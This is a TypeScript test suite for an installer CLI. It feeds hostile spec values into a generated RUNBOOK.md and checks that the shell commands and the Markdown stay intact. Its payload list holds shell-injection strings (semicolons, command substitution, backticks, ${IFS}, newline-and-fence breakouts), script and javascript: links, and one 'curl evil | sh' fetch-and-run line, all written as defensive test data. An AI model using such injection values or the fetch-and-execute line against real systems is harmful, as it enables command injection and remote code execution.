/**
 * Adversarial suite, spec -> RUNBOOK.md (shell and Markdown). Hostile values go into every spec
 * field that reaches the runbook, on all four platforms (Install objects built directly, so
 * validation does not stand in front of the renderer). For each runbook:
 * - every command of the ```sh blocks passes `bash -n` on its own;
 * - run in bash with every tool stubbed (PATH empty, anything else trapped), the runbook makes
 *   the same calls with the same number of arguments as with harmless values, runs nothing else,
 *   creates no marker file, and each value reaches its tool as one argument, verbatim;
 * - the Markdown keeps its structure: the same fences, headings, list items and the same
 *   unescaped Markdown characters outside code as with harmless values.
 */
import { describe, expect, it } from 'vitest';
import { mkdtempSync, readdirSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse, parseAllDocuments } from 'yaml';
import { init } from '../../cli/services/init.js';
import { settingsFor } from '../../cli/emit/settings.js';
import { renderRunbook } from '../../cli/emit/runbook.js';
import { supportMatrix } from '../../cli/matrix/engine.js';
import { currentRelease } from '../../cli/releases/catalog.js';
import type { Install } from '../../cli/generated/install-spec.js';
import { logicalCommands, runStubbed, shellBlocks, syntaxErrors, type Call } from '../helpers/shell-sandbox.js';

/** A value for the field tagged `tag`; `mark` is a file the payload tries to create. */
type Hostile = (tag: string, mark: string) => string;

const HOSTILE: Array<[string, Hostile]> = [
  ['semicolon', (t, m) => `${t};/usr/bin/touch ${m};#`],
  ['command substitution', (t, m) => `${t}$(/usr/bin/touch ${m})`],
  ['backticks', (t, m) => `${t}\`/usr/bin/touch ${m}\``],
  ['${IFS}', (t, m) => `${t};touch\${IFS}${m};#`],
  ['single quote', (t, m) => `${t}'; /usr/bin/touch ${m}; echo '`],
  ['double quote', (t, m) => `${t}"; /usr/bin/touch ${m}; echo "`],
  ['newline', (t, m) => `${t}\n/usr/bin/touch ${m}\n`],
  ['newline and fence', (t, m) => `${t}\n\`\`\`\n\n\`\`\`sh\n/usr/bin/touch ${m}\n\`\`\`\n`],
  ['carriage return', (t, m) => `${t}\r/usr/bin/touch ${m}`],
  ['hash', (t, m) => `${t} # /usr/bin/touch ${m}`],
  ['&&', (t, m) => `${t} && /usr/bin/touch ${m}`],
  ['pipe', (t, m) => `${t} | /usr/bin/touch ${m}`],
  ['redirect', (t, m) => `${t}>${m}`],
  ['glob', (t) => `${t}*`],
  ['parentheses', (t, m) => `${t}(rg) ( /usr/bin/touch ${m} )`],
  ['leading dash', (t, m) => `--${t}=${m}`],
  ['variable', (t) => `${t}$HOME\${PATH}`],
  ['backslash', (t) => `${t}\\n\\`],
  ['unicode', (t) => `${t}-é日本`],
  ['bidi and separators', (t) => `${t}\u202e\u2066\u2028\u2029\u200b`],
  ['terminal escapes', (t) => `${t}\x1b]0;title\x07\x1b[31m\x7f\x9b`],
  ['markdown', (t) => `${t} # heading <script>alert(1)</script> [link](javascript:alert(1)) *x* _y_ | ~z~ $m$ &amp; ![i](x)`],
];

type Platform = 'aws' | 'azure' | 'gcp' | 'onprem';

/** Spec fields by tag: `args` reach commands as (part of) an argument, `text` only Markdown or comments. */
interface Build {
  cell: string;
  args: string[];
  text: string[];
  edit: (spec: any, v: (tag: string) => string) => void;
}

const BUILDS: Record<Platform, Build> = {
  // Air-gapped, existing cluster, managed PostgreSQL (the psql here-document), external RabbitMQ,
  // weights in a claim (the claim and load Job here-documents).
  aws: {
    cell: 'aws/github-enterprise-server/self-hosted/air-gapped',
    args: [
      'name',
      'region',
      'cluster',
      'privkeyName',
      'privkeyKey',
      'hookName',
      'hookKey',
      'scmCaName',
      'scmCaKey',
      'mirror',
      'pullSecret',
      'trustName',
      'trustKey',
      'hostname',
      'rabbitName',
      'rabbitKey',
      'claimName',
    ],
    text: ['customer', 'account', 'scmType', 'weightsPath'],
    edit: (spec, v) => {
      spec.spec.models.catalog[0].weights = { source: 'pvc', claimName: v('claimName'), path: v('weightsPath') };
      Object.assign(spec.spec.platform, { region: v('region'), accountId: v('account'), cluster: { mode: 'existing', name: v('cluster') } });
      spec.spec.scm.auth.privateKey = { secretRef: { name: v('privkeyName'), key: v('privkeyKey') } };
      spec.spec.scm.auth.webhookSecret = { secretRef: { name: v('hookName'), key: v('hookKey') } };
      spec.spec.scm.caBundle = { configMapRef: { name: v('scmCaName'), key: v('scmCaKey') } };
      spec.spec.datastores = { rabbitmq: { mode: 'external', host: 'mq.example', credentials: { secretRef: { name: v('rabbitName'), key: v('rabbitKey') } } } };
    },
  },
  // Existing cluster (the application routing add-on line), a custom ingress class, external PostgreSQL.
  azure: {
    cell: 'azure/github/cloud-managed/connected',
    args: [
      'name',
      'resourceGroup',
      'cluster',
      'className',
      'credName',
      'credKey',
      'hookName',
      'hookKey',
      'privkeyName',
      'privkeyKey',
      'mirror',
      'pullSecret',
      'trustName',
      'trustKey',
      'hostname',
      'pgName',
      'pgKey',
    ],
    text: ['customer', 'subscription', 'scmType', 'provider', 'redisPath'],
    edit: (spec, v) => {
      Object.assign(spec.spec.platform, { subscriptionId: v('subscription'), resourceGroup: v('resourceGroup'), cluster: { mode: 'existing', name: v('cluster') } });
      spec.spec.ingress.className = v('className');
      spec.spec.scm.auth.privateKey = { secretRef: { name: v('privkeyName'), key: v('privkeyKey') } };
      spec.spec.scm.auth.webhookSecret = { secretRef: { name: v('hookName'), key: v('hookKey') } };
      Object.assign(spec.spec.models, { provider: v('provider'), credentials: { secretRef: { name: v('credName'), key: v('credKey') } } });
      spec.spec.datastores = {
        postgres: { mode: 'external', host: 'pg.example', credentials: { secretRef: { name: v('pgName'), key: v('pgKey') } } },
        rabbitmq: { mode: 'external', host: 'mq.example', credentials: { externalRef: { store: 'vault', path: v('redisPath') } } },
      };
    },
  },
  // Existing cluster and network (the proxy-only subnetwork check), managed Redis (get-auth-string), Hugging Face weights.
  gcp: {
    cell: 'gcp/gitlab-self-managed/self-hosted/connected',
    args: [
      'name',
      'projectId',
      'region',
      'cluster',
      'network',
      'tokenName',
      'tokenKey',
      'hookName',
      'hookKey',
      'hfName',
      'hfKey',
      'scmCaName',
      'scmCaKey',
      'mirror',
      'pullSecret',
      'trustName',
      'trustKey',
      'hostname',
    ],
    text: ['customer', 'scmType', 'model', 'storePath'],
    edit: (spec, v) => {
      Object.assign(spec.spec.platform, {
        projectId: v('projectId'),
        region: v('region'),
        cluster: { mode: 'existing', name: v('cluster') },
        vpc: { mode: 'existing', network: v('network'), subnetwork: 'nodes' },
      });
      spec.spec.scm.auth.token = { secretRef: { name: v('tokenName'), key: v('tokenKey') } };
      spec.spec.scm.auth.webhookSecret = { secretRef: { name: v('hookName'), key: v('hookKey') } };
      spec.spec.scm.caBundle = { configMapRef: { name: v('scmCaName'), key: v('scmCaKey') } };
      const model = spec.spec.models.catalog[0];
      model.name = v('model');
      model.weights = { source: 'hf', repo: 'Qwen/Qwen2.5-Coder-32B-Instruct', token: { secretRef: { name: v('hfName'), key: v('hfKey') } } };
      spec.spec.datastores = { postgres: { mode: 'external', host: 'pg.example', credentials: { externalRef: { store: 'gcp-secret-manager', path: v('storePath') } } } };
    },
  },
  // The kube context of the issue, the platform's ingress class, SaaS model API key, bundled datastores.
  onprem: {
    cell: 'onprem/bitbucket-data-center/saas-api/connected',
    args: [
      'name',
      'kubeContext',
      'ingressClass',
      'tokenName',
      'tokenKey',
      'hookName',
      'hookKey',
      'apiKeyName',
      'apiKeyKey',
      'scmCaName',
      'scmCaKey',
      'mirror',
      'pullSecret',
      'trustName',
      'trustKey',
      'hostname',
    ],
    text: ['customer', 'scmType', 'provider'],
    edit: (spec, v) => {
      Object.assign(spec.spec.platform, { kubeContext: v('kubeContext'), ingressClass: v('ingressClass') });
      spec.spec.scm.auth.token = { secretRef: { name: v('tokenName'), key: v('tokenKey') } };
      spec.spec.scm.auth.webhookSecret = { secretRef: { name: v('hookName'), key: v('hookKey') } };
      spec.spec.scm.caBundle = { configMapRef: { name: v('scmCaName'), key: v('scmCaKey') } };
      Object.assign(spec.spec.models, { provider: v('provider'), apiKey: { secretRef: { name: v('apiKeyName'), key: v('apiKeyKey') } } });
    },
  },
};

function buildRunbook(platform: Platform, v: (tag: string) => string): string {
  const build = BUILDS[platform];
  const cell = supportMatrix().cell(build.cell)!;
  const spec = parse(init({ platform: cell.platform, scm: cell.scm, models: cell.models, network: cell.network, name: 'acme-prod', customer: 'Example Corp' }).spec);
  spec.metadata = { name: v('name'), customer: v('customer') };
  // No hostile release: a render needs a catalogued one (validate: RELEASE_UNKNOWN), whose chart versions and pins come from the catalog.
  spec.spec.release.version = currentRelease().version;
  spec.spec.scm.type = v('scmType');
  spec.spec.registry = { mirror: v('mirror'), pullSecret: { name: v('pullSecret') }, caBundle: { configMapRef: { name: v('regCaName'), key: v('regCaKey') } } };
  spec.spec.trust = { caBundle: { configMapRef: { name: v('trustName'), key: v('trustKey') } } };
  spec.spec.ingress.hostname = v('hostname');
  build.edit(spec, v);
  const install = spec as Install;
  const settings = settingsFor(install, cell);
  return renderRunbook(install, settings, { modelServer: install.spec.models.hosting === 'self-hosted' }, 'installctl test');
}

/** Harmless values on the same code paths (no cloud registry, a custom class where the hostile one is). */
const harmless = (tag: string) => `${tag.toLowerCase()}-ok`;

/** Each line's kind, for comparing the Markdown structure of two runbooks. */
function skeleton(markdown: string): string[] {
  let fenced = false;
  return markdown.split('\n').map((line) => {
    if (line.startsWith('```')) {
      fenced = !fenced;
      return fenced ? `open ${line}` : 'close';
    }
    if (fenced) return 'code';
    return /^(#{1,6} |- |\d+\. |> |\s{4}|$)/.exec(line)?.[1] ?? 'text';
  });
}

/** Markdown characters that keep their meaning outside code (fences and code spans removed, escapes honoured). */
function activeMarkdown(markdown: string): string {
  const prose = markdown.split(/^```sh\n[\s\S]*?^```$/m).join('\n');
  const outsideCode = prose.replace(/(?<!\\)(`+)([\s\S]*?[^`])\1(?!`)/g, '');
  return [...outsideCode.replace(/\\[\s\S]/g, '').matchAll(/[<>&[\]`*_|~$!]/g)]
    .map((match) => match[0])
    .sort()
    .join('');
}

/** Calls without their arguments' text: the tool and how many words it got (sorted: pipelines run concurrently). */
const shape = (calls: Call[]) => calls.map((call) => `${call.tool}/${call.args.length}`).sort();

const baselines = new Map<Platform, { runbook: string; runs: ReturnType<typeof runStubbed>[] }>();
function baseline(platform: Platform) {
  if (!baselines.has(platform)) {
    const runbook = buildRunbook(platform, harmless);
    const runs = ([0, 1] as const).map((status) => runStubbed(shellBlocks(runbook).join('\n'), mkdtempSync(join(tmpdir(), 'installctl-runbook-cwd-')), status));
    baselines.set(platform, { runbook, runs });
  }
  return baselines.get(platform)!;
}

describe('RUNBOOK.md of harmless specs: the checks have something to compare with', () => {
  it.each(Object.keys(BUILDS) as Platform[])('%s: every command passes bash -n, every tool is stubbed, every value field reaches a tool', (platform) => {
    const { runbook, runs } = baseline(platform);
    expect(syntaxErrors(shellBlocks(runbook).flatMap(logicalCommands))).toEqual([]);
    for (const run of runs) {
      expect(run.notFound).toEqual([]);
      expect(run.calls.length).toBeGreaterThan(20);
    }
    const args = runs.flatMap((run) => run.calls.flatMap((call) => call.args));
    for (const tag of BUILDS[platform].args)
      expect(
        args.some((arg) => arg.includes(harmless(tag))),
        tag,
      ).toBe(true);
    for (const tag of BUILDS[platform].text) expect(runbook, tag).toContain(harmless(tag));
  });
});

describe.each(Object.keys(BUILDS) as Platform[])('RUNBOOK.md (%s) with hostile values in every field', (platform) => {
  it.each(HOSTILE)('%s', (label, hostile) => {
    const markDir = mkdtempSync(join(tmpdir(), 'installctl-mark-'));
    const value = (tag: string) => hostile(tag.toLowerCase(), join(markDir, `pwned-${tag}`));
    const runbook = buildRunbook(platform, value);
    const base = baseline(platform);

    // Markdown: same structure, no new active characters, no raw control or bidi characters.
    expect(skeleton(runbook)).toEqual(skeleton(base.runbook));
    expect(activeMarkdown(runbook)).toEqual(activeMarkdown(base.runbook));
    expect(runbook.replace(/\n/g, '')).not.toMatch(/[\p{Cc}\p{Cf}\p{Cs}\u2028\u2029]/u);

    // bash -n on every command that differs from the harmless runbook's.
    const known = new Set(shellBlocks(base.runbook).flatMap(logicalCommands));
    expect(
      syntaxErrors(
        shellBlocks(runbook)
          .flatMap(logicalCommands)
          .filter((command) => !known.has(command)),
      ),
    ).toEqual([]);

    const byTag = BUILDS[platform].args.map((tag) => ({ tag, value: value(tag) }));
    ([0, 1] as const).forEach((status, index) => {
      const cwd = mkdtempSync(join(tmpdir(), 'installctl-runbook-cwd-'));
      writeFileSync(join(cwd, 'glob-bait'), '');
      const run = runStubbed(shellBlocks(runbook).join('\n'), cwd, status);
      expect(run.notFound, 'commands that are no tool of the runbook ran').toEqual([]);
      expect(readdirSync(markDir), 'a payload created its marker').toEqual([]);
      // A value that looks like an option is joined to its flag or follows `--`: the word counts differ there.
      const counted = (calls: Call[]) => (label === 'leading dash' ? shape(calls).map((call) => call.replace(/\/\d+$/, '')) : shape(calls));
      expect(counted(run.calls), 'calls or word counts differ from the harmless runbook').toEqual(counted(base.runs[index]!.calls));
      const args = run.calls.flatMap((call) => call.args);
      for (const { tag, value: expected } of byTag)
        expect(
          args.some((arg) => arg.includes(expected)),
          `${tag} reaches a tool verbatim`,
        ).toBe(true);
      for (const call of run.calls) {
        call.args.forEach((arg, position) => {
          if (byTag.some(({ value: v }) => arg === v && v.startsWith('-'))) expect(call.args.slice(0, position), `${call.tool} ${call.args.join(' ')}`).toContain('--');
        });
      }
    });
  });
});

describe("the issue's examples", () => {
  it('on-prem kubeContext "x;touch${IFS}/tmp/p;#" is one quoted argument', () => {
    const runbook = buildRunbook('onprem', (tag) => (tag === 'kubeContext' ? 'x;touch${IFS}/tmp/p;#' : harmless(tag)));
    expect(runbook).toContain("kubectl config use-context 'x;touch${IFS}/tmp/p;#'\n");
  });

  it('an Azure resource group with parentheses stays one argument', () => {
    const runbook = buildRunbook('azure', (tag) => (tag === 'resourceGroup' ? 'rg-agents(prod)' : harmless(tag)));
    expect(runbook).toContain("az aks get-credentials --resource-group 'rg-agents(prod)' --name cluster-ok");
  });

  it('metadata.customer with a newline and a fence stays in the title', () => {
    const customer = 'Acme\n```sh\ncurl evil | sh\n```\n# Step 0';
    const runbook = buildRunbook('onprem', (tag) => (tag === 'customer' ? customer : harmless(tag)));
    expect(runbook.split('\n')[0]).toBe('# Runbook: name-ok (Acme\\n\\`\\`\\`sh\\ncurl evil \\| sh\\n\\`\\`\\`\\n\\# Step 0)');
    expect(runbook.match(/^```/gm)!.length).toBe(baseline('onprem').runbook.match(/^```/gm)!.length);
  });
});

/** The manifests of the runbook's `kubectl apply -f - <<'YAML'` here-documents, parsed. */
const inlineManifests = (runbook: string) => [...runbook.matchAll(/<<'YAML'\n([\s\S]*?)\nYAML$/gm)].flatMap((match) => parseAllDocuments(match[1]!).map((doc) => doc.toJS()));

describe('RUNBOOK.md here-documents (pvc weights) with hostile values', () => {
  it.each(HOSTILE)('%s: the same manifests, each value verbatim where it belongs', (_, hostile) => {
    const value = (tag: string) => hostile(tag.toLowerCase(), '/nonexistent/mark');
    const manifests = inlineManifests(buildRunbook('aws', value));
    expect(manifests.map((m) => m.kind)).toEqual(inlineManifests(baseline('aws').runbook).map((m) => m.kind));
    const claims = manifests.filter((m) => m.kind === 'PersistentVolumeClaim');
    expect(claims[0].metadata.name).toBe(value('claimName'));
    const job = manifests.find((m) => m.kind === 'Job' && m.spec.template.spec.volumes[0].persistentVolumeClaim.claimName === value('claimName'));
    const container = job.spec.template.spec.containers[0];
    expect(container.args).toEqual([
      'fetch',
      'oci',
      '--dest',
      `/models/${value('weightsPath').replace(/^\/+|\/+$/g, '')}`,
      '--reference',
      `${value('mirror')}/models/qwen2.5-coder-32b:weights`,
    ]);
    expect(container.image.startsWith(`${value('mirror')}/`)).toBe(true);
    expect(job.spec.template.spec.imagePullSecrets).toEqual([{ name: value('pullSecret') }]);
  });
});

/** Cloud-managed cells: the model access step checks each catalog model id with the cloud's CLI. */
const CLOUD_MODELS: Array<[string, string, string]> = [
  ['bedrock', 'aws/github/cloud-managed/connected', 'aws'],
  ['azure-openai', 'azure/github/cloud-managed/connected', 'az'],
  ['vertex', 'gcp/github/cloud-managed/connected', 'gcloud'],
];

function cloudModelRunbook(cellId: string, model: string): string {
  const cell = supportMatrix().cell(cellId)!;
  const spec = parse(init({ platform: cell.platform, scm: cell.scm, models: cell.models, network: cell.network, name: 'acme-prod', customer: 'Example Corp' }).spec);
  Object.assign(spec.spec.models.catalog[0], { name: model, ...(cell.platform === 'azure' ? { deployment: model, version: model } : {}) });
  const install = spec as Install;
  return renderRunbook(install, settingsFor(install, cell), { modelServer: false }, 'installctl test');
}

describe.each(CLOUD_MODELS)('%s model ids with hostile values', (_, cellId, tool) => {
  const harmlessRunbook = cloudModelRunbook(cellId, 'model-ok');
  it.each(HOSTILE)('%s', (label, hostile) => {
    const markDir = mkdtempSync(join(tmpdir(), 'installctl-mark-'));
    const model = hostile('model', join(markDir, 'pwned-model'));
    const runbook = cloudModelRunbook(cellId, model);
    expect(skeleton(runbook)).toEqual(skeleton(harmlessRunbook));
    expect(activeMarkdown(runbook)).toEqual(activeMarkdown(harmlessRunbook));
    expect(runbook.replace(/\n/g, '')).not.toMatch(/[\p{Cc}\p{Cf}\p{Cs}\u2028\u2029]/u);
    expect(syntaxErrors(shellBlocks(runbook).flatMap(logicalCommands))).toEqual([]);
    const run = runStubbed(shellBlocks(runbook).join('\n'), mkdtempSync(join(tmpdir(), 'installctl-runbook-cwd-')), 0);
    expect(run.notFound).toEqual([]);
    expect(readdirSync(markDir)).toEqual([]);
    const args = run.calls.filter((call) => call.tool === tool).flatMap((call) => call.args);
    expect(
      args.some((arg) => arg.includes(model)),
      `${label}: the model id reaches ${tool} verbatim`,
    ).toBe(true);
  });
});
